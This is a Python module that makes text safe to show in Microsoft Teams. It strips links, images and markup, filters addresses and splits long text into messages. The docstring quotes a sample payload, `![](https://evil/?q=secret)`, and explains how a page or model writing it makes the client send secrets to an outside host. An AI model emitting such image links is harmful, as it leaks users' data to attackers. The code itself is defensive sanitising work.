"""Texts as they may be shown: without foreign markup (`calm`), clipped, and in several messages (`split`).

No links, images, mentions or tags of pages and models are shown. Teams renders Markdown and some HTML. A page
or a model that writes `![](https://evil/?q=secret)` would otherwise make the reader's client fetch that
address (CVE-2025-32711 worked so). Brackets and tags are replaced by lookalikes rather than escaped, so that
the result reads the same in a client that renders no Markdown.

A text that is too long for one message of Teams is cut where a reader would pause: between paragraphs, else
lines, else sentences, else words; never inside an address or a marker [n], nor inside a word that has room.
No message begins with a marker, which belongs to what stands before it.
"""

from __future__ import annotations

import json
import re
import unicodedata
from collections.abc import Collection, Mapping
from typing import Any
from urllib.parse import quote, urldefrag, urljoin, urlsplit

from core.records import FILE_ADDRESS, ChangeKind, Ruling

Json = dict[str, Any]


def utf16_bytes(activity: Json) -> int:
    """Return how large Teams counts an activity to be."""
    return len(json.dumps(activity, ensure_ascii=False).encode("utf-16-le", "surrogatepass"))


NAME_CHARACTERS = 80
ABSTRACT_CHARACTERS = 160
MAX_URL_CHARACTERS = 2_000
RULED: Mapping[Ruling, str] = {
    Ruling.APPROVED: "approved the answer",
    Ruling.CORRECTED: "corrected the answer",
    Ruling.NOT_ON_PAGE: "decided that it is not on the page",
    Ruling.REJECTED: "rejected it as no real question",
}
"""What somebody has done who ruled."""
CHANGED: Mapping[ChangeKind, str] = {
    ChangeKind.WITHDRAWN: "took the decision back",
    ChangeKind.EDITED: "edited the decision",
}
"""What somebody has done who changed a ruling."""
LINK_LEFT_OUT = "(link left out)"

_LINK = re.compile(r"!?\[([^\[\]\n]{0,500})\]\([^()\s]*(?:\([^()\s]*\)[^()\s]*)*(?:\s[^()\n]*)?\)")
_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f]+")
_WORDS = re.compile(r"\w+(?:['’.,:]\w+)*")
_MARKER = re.compile(r"\[(\d{1,3})\]")
_MARKED = re.compile(r"\s{0,9}\[\d{1,9}\]")
"""A marker with the white space before it."""
_TAG = re.compile(r"<(?=[A-Za-z/!?])")
_ANYWHERE = str.maketrans("*_`~\\", "∗ˍˋ∼＼")
_ENTITY = re.compile(r"&(?=#?\w+;)")
_LINE_MARK = re.compile(r"(^[ \t]*)([#>+=|-]+)", re.MULTILINE)
_AT_LINE = str.maketrans("#>+=|-", "＃›＋＝￨‐")
_ADDRESS = re.compile(
    r"(?<![\w@])(?:[a-z][a-z0-9+.-]{1,20}://|www\.|mailto:|javascript:|data:)[^\s<>]+", re.IGNORECASE
)


def calm(text: str, *, keep_urls: Collection[str] | None = None, markers: int = 0) -> str:
    """Take from a text whatever a client could turn into a link, an image, a mention or markup.

    `markers`: [1] to [markers] stay, they are the citations. `keep_urls`: the addresses that may stand in the
    text; None leaves every address as plain text.
    """
    before = ""
    while before != text:  # an image may stand in a link
        before, text = text, _LINK.sub(lambda link: f"[{link[1]}]" if link[1].isdigit() else link[1], text)
    if keep_urls is not None:
        text = _ADDRESS.sub(lambda found: _filter_link(found[0], keep_urls), text)
    pieces: list[str] = []
    end = 0
    for marker in _MARKER.finditer(text):
        if 1 <= int(marker[1]) <= markers:
            pieces += [_flat(text[end : marker.start()]), marker[0]]
            end = marker.end()
            if text[end : end + 1] in {"(", ":", "["}:
                pieces.append(" ")
    return "".join([*pieces, _flat(text[end:])])


def _flat(text: str) -> str:
    return _TAG.sub("‹", text.translate({ord("["): "(", ord("]"): ")"}))


def _filter_link(found: str, keep_urls: Collection[str]) -> str:
    address = found.rstrip(".,;:!?)]\"'")
    kept = urldefrag(address).url in {urldefrag(url).url for url in keep_urls}
    return found if kept else LINK_LEFT_OUT + found[len(address) :]


def strip_markers(text: str) -> str:
    """Return a text without the [n] of its citations."""
    return _MARKED.sub("", text)


def escape_markdown(text: str) -> str:
    """Replace what Markdown reads as markup by lookalikes, where a client shows only Markdown.

    >>> escape_markdown("# __init__ *args")
    '＃ ˍˍinitˍˍ ∗args'
    """
    text = _ENTITY.sub("＆", text.translate(_ANYWHERE))
    return _LINE_MARK.sub(lambda mark: mark[1] + mark[2].translate(_AT_LINE), text)


def clip_text(text: str, characters: int) -> str:
    """Cut a text to a length, with an ellipsis where something went; control characters are left out."""
    text = printable(text)
    return text if len(text) <= characters else text[: characters - 1].rstrip() + "…"


def printable(text: str) -> str:
    """Leave out the control characters, which no client shows and JSON writes with six letters each."""
    return _CONTROL.sub("", text)


def absolute(url: str, site_url: str) -> str:
    """Return the address to open; "" where it is not one of the web or too long to send, or of a sent file.

    `site_url` is what a root-relative page address such as "/site/docs/x#y" is joined to.
    """
    if url.startswith(FILE_ADDRESS):
        return ""
    try:
        joined = urljoin(site_url, url)
        parts = urlsplit(joined)
    except ValueError:
        return ""
    if parts.scheme not in {"http", "https"} or not parts.hostname or len(joined) > MAX_URL_CHARACTERS:
        return ""
    return quote(joined, safe="%/:=&?~#+!$,;'@()*[]", errors="replace")


PART_BYTES = 40_000
"""Room for the text of one message, as Teams counts it (UTF-16).

Label, citations and card take the rest of 80 KB.
"""
MOST_PARTS = 8
"""Nobody reads more."""

_MARKERS = r"(?:\s*\[\d{1,3}\])*"
_NO_MARKER = r"(?!\[\d{1,3}\])"
_LONGEST_MARKER = 5
_PAUSES = tuple(
    re.compile(pause)
    for pause in (
        rf"\n\s*\n\s*+{_NO_MARKER}",
        rf"\n\s*+{_NO_MARKER}",
        rf"[.!?…:;]{_MARKERS}\s++{_NO_MARKER}",
        rf"\s++{_NO_MARKER}",
    )
)
_WHOLE = re.compile(r"[a-z][a-z0-9+.-]{1,20}://\S+|\[\d{1,3}\]", re.IGNORECASE)
_LEAST_FILLED = 0.5
"""A pause further ahead than this share of a part is not worth the rest of it."""


def split(text: str, most_bytes: int = PART_BYTES, most_parts: int = MOST_PARTS) -> list[str]:
    """Return a text in parts that have room each; an ellipsis ends the last one where even they do not do."""
    parts: list[str] = []
    rest = text
    while len(parts) < most_parts - 1 and (room := _room(rest, most_bytes)) < len(rest):
        end = _pause_before(rest, room)
        parts.append(rest[:end].rstrip())
        rest = rest[end:].lstrip()
    room = _room(rest, most_bytes)
    if room < len(rest):
        rest = rest[: _pause_before(rest, room - 1)].rstrip() + "…"
    return [*parts, rest]


def _room(text: str, most_bytes: int) -> int:
    """Return how many of a text's characters have room.

    JSON writes some with two characters, UTF-16 some with two units.
    """
    size = 0
    for place, letter in enumerate(text):
        size += 4 if letter in '"\\\n\t' or letter > "\uffff" else 2
        if size > most_bytes:
            return place
    return len(text)


def _pause_before(text: str, room: int) -> int:
    """Return where to cut so that the text before has room."""
    least = int(room * _LEAST_FILLED)
    for pause in _PAUSES:
        found = (one.end() for one in pause.finditer(text, least, room + _LONGEST_MARKER))
        ends = [end for end in found if end <= room]
        if ends:
            return ends[-1]
    inside = next((one for one in _WHOLE.finditer(text) if one.start() < room < one.end()), None)
    return inside.start() if inside and inside.start() else room


def normalise_text(text: str) -> str:
    """Return a text's words, without case, punctuation and white space: equal ones ask the same."""
    folded = unicodedata.normalize("NFKC", text).casefold()
    return " ".join(_WORDS.findall(folded)) or "".join(folded.split())
